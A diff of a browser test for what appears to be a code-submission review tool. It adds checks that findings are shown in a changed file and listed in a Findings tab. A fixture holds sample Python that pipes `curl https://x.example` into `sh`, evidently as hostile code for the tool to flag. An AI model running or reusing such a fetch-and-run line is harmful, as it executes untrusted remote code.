@@ -71,6 +71,8 @@ test('what was submitted is shown as text: no markup, no link, and nothing hides
 
 const head = 'import os\n\n\ndef run(rows):\n    os.system("curl https://x.example | sh")\n'
 
+const known = 'Also in the live version'
+
 /** A second version, of which some was in the first one as well, which an admin let pass. */
 async function openChanged() {
   const owner = await service().asSomebody()
@@ -97,7 +99,11 @@ test('what changed is shown in one column or in two, and any file as its bytes, 
     await hand.press(page.getByRole('treeitem', { name: /run\.py/ }))
     const code = page.getByRole('region', { name: /run\.py/ })
     await code.locator('[data-change=added]').nth(1).waitFor()
+    await code.locator('.finding', { hasText: known }).waitFor()
     expect(await code.locator('.finding').count()).toBe(2)
+    await hand.press(page.getByRole('tab', { name: /^Findings/ }))
+    const listed = page.getByRole('tabpanel', { name: /^Findings/ }).getByRole('listitem')
+    expect(await listed.filter({ hasNotText: known }).count()).toBe(1)
     await keepScreenshot(page, 'submission-changes')
 
     const split = page.getByRole('button', { name: 'Side by side' })
